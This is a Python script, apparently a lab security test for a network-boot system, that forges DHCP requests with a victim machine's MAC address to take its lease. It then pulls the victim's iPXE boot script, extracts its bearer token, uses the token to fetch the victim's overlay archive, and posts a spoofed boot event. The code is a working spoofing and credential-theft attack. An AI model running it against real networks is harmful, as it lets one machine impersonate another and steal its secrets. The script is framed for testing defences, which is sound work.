"""Run in a peer namespace on the lab bridge: take a lease for another machine's MAC (chaddr)
under a client id of our own, put the address on our interface, and try for that machine's
secrets: its boot script's credential and its overlay.

Usage: python dhcp_forger.py IFACE VICTIM_MAC SERVER_IP HTTPS_PORT. Prints JSON: the leased
address, whether the script carried a credential, and the HTTP status of each overlay try.
"""

from __future__ import annotations

import json
import os
import select
import socket
import subprocess
import sys
import time

from ramboot.proto import dhcp_codec as D

CLIENT_ID = b"\xff" + b"forger-id"  # not 01 + the MAC: a client of its own


def exchange(s: socket.socket, pkt: bytes, xid: int, want: int, seconds: float = 10.0) -> D.DhcpPacket:
    end = time.monotonic() + seconds
    s.sendto(pkt, ("255.255.255.255", 67))
    while time.monotonic() < end:
        r, _, _ = select.select([s], [], [], max(0.0, end - time.monotonic()))
        if not r:
            s.sendto(pkt, ("255.255.255.255", 67))
            continue
        rep = D.decode(s.recv(4096))
        if rep.xid == xid and rep.msg_type == want:
            return rep
    raise SystemExit(f"forger: no DHCP message {want} in {seconds} s")


def packet(mac: bytes, xid: int, msg: int, extra: dict | None = None) -> bytes:
    opts = {D.Opt.MESSAGE_TYPE: bytes([msg]), D.Opt.CLIENT_ID: CLIENT_ID}
    opts.update(extra or {})
    return D.encode(D.DhcpPacket(op=D.BOOTREQUEST, xid=xid, flags=D.FLAG_BROADCAST, chaddr=mac, options=opts))


def curl(url: str, *args: str) -> tuple[int, str]:
    out = subprocess.run(["curl", "-s", "-k", "-m", "10", "-o", "/tmp/forger.body", "-w", "%{http_code}", *args, url],
                         capture_output=True, text=True)
    body = open("/tmp/forger.body", errors="replace").read() if os.path.exists("/tmp/forger.body") else ""
    return int(out.stdout or 0), body


def main() -> None:
    iface, victim, server, https_port = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
    mac = bytes.fromhex(victim.replace(":", ""))
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.bind(("0.0.0.0", 68))
    xid = int.from_bytes(os.urandom(4), "big")
    offer = exchange(s, packet(mac, xid, D.MsgType.DISCOVER), xid, D.MsgType.OFFER)
    ack = exchange(s, packet(mac, xid, D.MsgType.REQUEST, {
        D.Opt.SERVER_ID: socket.inet_aton(server), D.Opt.REQUESTED_IP: socket.inet_aton(offer.yiaddr)}),
        xid, D.MsgType.ACK)
    subprocess.run(["ip", "addr", "replace", f"{ack.yiaddr}/24", "dev", iface], check=True)
    dashed = victim.replace(":", "-")
    st, script = curl(f"http://{server}/boot/{dashed}.ipxe")
    token = script.split("ramboot.token=")[1].split()[0] if "ramboot.token=" in script else None
    https = f"https://{server}" + ("" if https_port == "443" else f":{https_port}")
    tries = {
        "overlay": curl(f"{https}/overlay/{dashed}.tar")[0],
        "overlay_with_token": curl(f"{https}/overlay/{dashed}.tar", "-H", f"Authorization: Bearer {token}")[0]
        if token else None,
        "report": curl(f"{https}/api/v1/nodes/{victim}/events", "-H", "Content-Type: application/json",
                       "--data", '{"stage":"booted"}')[0],
    }
    print(json.dumps({"ip": ack.yiaddr, "script": st, "token": token is not None, **tries}))


if __name__ == "__main__":
    main()
